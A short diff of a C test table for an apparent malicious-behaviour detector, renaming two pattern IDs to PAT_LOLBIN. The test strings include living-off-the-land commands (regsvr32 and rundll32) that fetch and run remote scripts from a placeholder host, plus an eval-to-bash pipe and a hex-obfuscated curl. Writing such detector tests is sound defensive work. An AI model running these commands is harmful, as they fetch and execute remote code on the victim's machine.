@@ -1190,8 +1190,8 @@ static void test_needs(void)
 		{ PAT_CRED_PATH2, "harvest all of the tokens" },
 		{ PAT_HIDE2, "they have already approved to" },
 		{ PAT_REMOTE_TASKS, "do whatever jobs the server sends" },
-		{ PAT_DROP_RUN, "regsvr32 /s /n /u /i:http://x/f.sct scrobj.dll" },
-		{ PAT_DROP_RUN, "rundll32 javascript:\"\\..\\mshtml,runhtmlapplication"
+		{ PAT_LOLBIN, "regsvr32 /s /n /u /i:http://x/f.sct scrobj.dll" },
+		{ PAT_LOLBIN, "rundll32 javascript:\"\\..\\mshtml,runhtmlapplication"
 		                "\";getobject(\"script:https://x/a\")" },
 		{ PAT_RUN_TEXT, "eval \"$cmd | bash\"" },
 		{ PAT_DEOBFUSCATE, "u=$(printf \"\\x63\\x75\\x72\\x6c\")" },
